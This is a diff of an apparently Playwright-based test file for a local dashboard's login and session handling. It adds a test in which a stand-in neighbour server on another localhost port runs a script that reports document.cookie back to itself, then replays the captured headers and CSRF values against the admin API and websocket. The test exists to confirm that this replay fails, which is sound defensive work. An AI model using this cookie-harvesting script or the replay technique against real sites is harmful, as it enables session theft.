@@ -4,6 +4,8 @@
 // Screenshots of every screen go to build/screenshots/ at the repository root.
 import { spawn } from 'node:child_process';
 import { mkdtempSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { randomBytes } from 'node:crypto';
+import { createServer as createHttpServer, request as httpRequest } from 'node:http';
 import { createServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
@@ -106,7 +108,9 @@ const browser = await chromium.launch({
   args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--disable-background-networking',
     '--disable-component-update', '--disable-sync', '--no-first-run'],
 });
-const page = await browser.newPage({ viewport: { width: 1024, height: 700 } });
+// A context of its own, so that a test can open a second tab in it.
+const mainContext = await browser.newContext({ viewport: { width: 1024, height: 700 } });
+const page = await mainContext.newPage();
 const pageErrors = [];
 page.on('pageerror', (e) => pageErrors.push(e.message));
 // The Content-Security-Policy must not block anything the dashboard does.
@@ -127,6 +131,19 @@ async function test(name, fn) {
 }
 function assert(cond, msg) { if (!cond) throw new Error(msg); }
 
+// upgradeStatus asks url for a websocket upgrade with headers and returns
+// the status: 101 when it upgraded.
+function upgradeStatus(url, headers) {
+  return new Promise((resolve, reject) => {
+    const req = httpRequest(url, { headers: { ...headers, connection: 'Upgrade', upgrade: 'websocket',
+      'sec-websocket-version': '13', 'sec-websocket-key': randomBytes(16).toString('base64') } });
+    req.on('upgrade', (res, socket) => { socket.destroy(); resolve(res.statusCode); });
+    req.on('response', (res) => { res.resume(); resolve(res.statusCode); });
+    req.on('error', reject);
+    req.end();
+  });
+}
+
 async function go(hash) {
   await page.goto(`${base}/#/${hash}`);
   await page.waitForLoadState('networkidle').catch(() => {});
@@ -142,16 +159,105 @@ await test('without a session the dashboard says how to get in, and the login li
   await out.waitFor();
   assert((await out.innerText()).includes('freelane dashboard-url'), `signed-out screen: ${await out.innerText()}`);
   await page.screenshot({ path: join(shots, 'signed-out.png') });
+  // The link differs from this page's URL only in its fragment, so this is
+  // the same page being handed the code, not a reload.
   await page.goto(loginLink);
-  assert(!page.url().includes('login='), `the code stayed in the address bar: ${page.url()}`);
+  await waitFor(() => !page.url().includes('login='), `the code to leave the address bar (${page.url()})`);
   await page.getByTestId('nav-overview').waitFor();
   await out.waitFor({ state: 'detached' });
+  await waitFor(async () => /Live/.test(await page.getByTestId('connection').innerText()), 'the websocket to connect after signing in');
+  // No server, proxy or log sees the code: it is in the fragment.
+  assert(/\/#login=[\w-]+$/.test(loginLink), `the login link carries its code outside the fragment: ${loginLink}`);
   // The link is used up: another browser opening it is not signed in.
   const other = await browser.newContext();
   const p2 = await other.newPage();
   await p2.goto(loginLink);
   await p2.getByTestId('login-failed').waitFor();
   await other.close();
+});
+
+// The neighbour's replay: the signed-in user follows a link to a server
+// another account runs on another port of 127.0.0.1. Browsers send it every
+// cookie they hold for 127.0.0.1, whatever port set it; it records what it
+// got and replays all of it to FreeLane, as curl would.
+await test('a server on another port learns nothing that opens the dashboard', async () => {
+  const recorded = [];
+  const recorder = createHttpServer((req, res) => {
+    let body = '';
+    req.on('data', (d) => { body += d; });
+    req.on('end', () => {
+      recorded.push({ method: req.method, url: req.url, headers: { ...req.headers }, body });
+      res.writeHead(200, { 'Content-Type': 'text/html' });
+      // Its page reports what it can see of the browser's storage.
+      res.end(`<!doctype html><title>neighbour</title><script>
+        fetch('/report', { method: 'POST', body: JSON.stringify({ cookie: document.cookie, storage: localStorage.length + sessionStorage.length }) });
+      </script>`);
+    });
+  });
+  const recPort = await new Promise((res) => recorder.listen(0, '127.0.0.1', () => res(recorder.address().port)));
+  try {
+    await go('overview');
+    await waitFor(async () => /Live/.test(await page.getByTestId('connection').innerText()), 'the dashboard to be live before the visit');
+    // One click on a link, as in a chat message or a README.
+    await page.evaluate((u) => {
+      const a = document.createElement('a');
+      a.href = u;
+      a.textContent = 'a link';
+      document.body.append(a);
+      a.click();
+    }, `http://127.0.0.1:${recPort}/landing?from=chat`);
+    await waitFor(() => recorded.some((r) => r.url === '/report'), 'the neighbour page to report');
+    const visit = recorded.find((r) => r.url.startsWith('/landing'));
+    assert(visit, `the neighbour saw no visit: ${JSON.stringify(recorded.map((r) => r.url))}`);
+    const report = JSON.parse(recorded.find((r) => r.url === '/report').body);
+    console.log(`     (the neighbour got: Cookie ${JSON.stringify(visit.headers.cookie ?? '')}; its page sees cookie ${JSON.stringify(report.cookie)}, ${report.storage} storage items)`);
+    assert(report.storage === 0, `the neighbour's page sees ${report.storage} storage items`);
+
+    // Replay every request the neighbour received, with all its headers,
+    // against the admin API and its websocket. An attacker would also copy
+    // any anti-CSRF cookie into the header it guards.
+    const skip = new Set(['host', 'connection', 'content-length', 'transfer-encoding', 'keep-alive', 'upgrade']);
+    for (const r of recorded) {
+      assert(!/login|session|token/i.test(r.url), `the neighbour's URL carries a credential: ${r.url}`);
+      const headers = {};
+      for (const [k, v] of Object.entries(r.headers)) if (!skip.has(k)) headers[k] = v;
+      const csrf = /freelane_csrf[^=]*=([^;]+)/.exec(headers.cookie ?? '');
+      if (csrf) headers['x-freelane-csrf'] = decodeURIComponent(csrf[1]);
+      // As received, and as curl would send it: without the neighbour's
+      // own Origin (which FreeLane refuses with 403 on its own), or with
+      // FreeLane's.
+      const { origin, ...bare } = headers;
+      const variants = [[bare, 401], [{ ...bare, origin: base }, 401]];
+      if (origin) variants.push([headers, 403]);
+      for (const [h, want] of variants) {
+        const what = `replayed from ${r.url} (Origin ${h.origin ?? 'none'})`;
+        const state = await fetch(`${base}/api/state`, { headers: h });
+        assert(state.status === want, `GET /api/state ${what}: ${state.status}, want ${want}`);
+        const write = await fetch(`${base}/api/routing`, { method: 'PUT', headers: { ...h, 'content-type': 'application/json' }, body: '{"paused":true}' });
+        assert(write.status === want, `PUT /api/routing ${what}: ${write.status}, want ${want}`);
+        const ws = await upgradeStatus(`${base}/api/ws`, h);
+        assert(ws === want, `the websocket ${what}: ${ws}, want ${want}`);
+      }
+    }
+    assert((await chat('alpha/m-alpha')).status === 200, 'routing was paused by the replay');
+    const jar = await page.context().cookies(base);
+    assert(jar.length === 0, `the browser holds cookies for FreeLane: ${jar.map((c) => c.name).join(', ')}`);
+  } finally {
+    recorder.close();
+  }
+  // Back on the dashboard: still signed in, after a reload and in a new
+  // tab (the session is in this origin's localStorage), and live.
+  await page.goto(`${base}/#/overview`);
+  await waitFor(async () => /Live/.test(await page.getByTestId('connection').innerText()), 'the dashboard to be live again');
+  await page.reload();
+  await waitFor(async () => /Live/.test(await page.getByTestId('connection').innerText()), 'the dashboard to be live after a reload');
+  const tab = await mainContext.newPage();
+  tab.on('pageerror', (e) => pageErrors.push(e.message));
+  await tab.goto(`${base}/#/chains`);
+  await tab.getByTestId('chain-main').waitFor();
+  await waitFor(async () => /Live/.test(await tab.getByTestId('connection').innerText()), 'a new tab to be live');
+  assert(!(await tab.getByTestId('signed-out').count()), 'a new tab is signed out');
+  await tab.close();
 });
 
 await test('overview lists every backend with its status and updates live', async () => {
@@ -331,10 +437,10 @@ await test('requests screen shows tokens and cost per request', async () => {
 });
 
 await test('paused routing shows a banner and Resume serves again', async () => {
-  // A write from the signed-in page, with the session's anti-CSRF token.
+  // A write from the signed-in page, with the session it keeps.
   const r = await page.evaluate(async () => {
-    const { csrf } = await (await fetch('/api/session')).json();
-    const res = await fetch('/api/routing', { method: 'PUT', headers: { 'Content-Type': 'application/json', 'X-FreeLane-CSRF': csrf }, body: '{"paused":true}' });
+    const { token } = JSON.parse(localStorage.getItem('freelane.session'));
+    const res = await fetch('/api/routing', { method: 'PUT', headers: { 'Content-Type': 'application/json', 'X-FreeLane-Session': token }, body: '{"paused":true}' });
     return { ok: res.ok, status: res.status };
   });
   assert(r.ok, `PUT /api/routing: ${r.status}`);
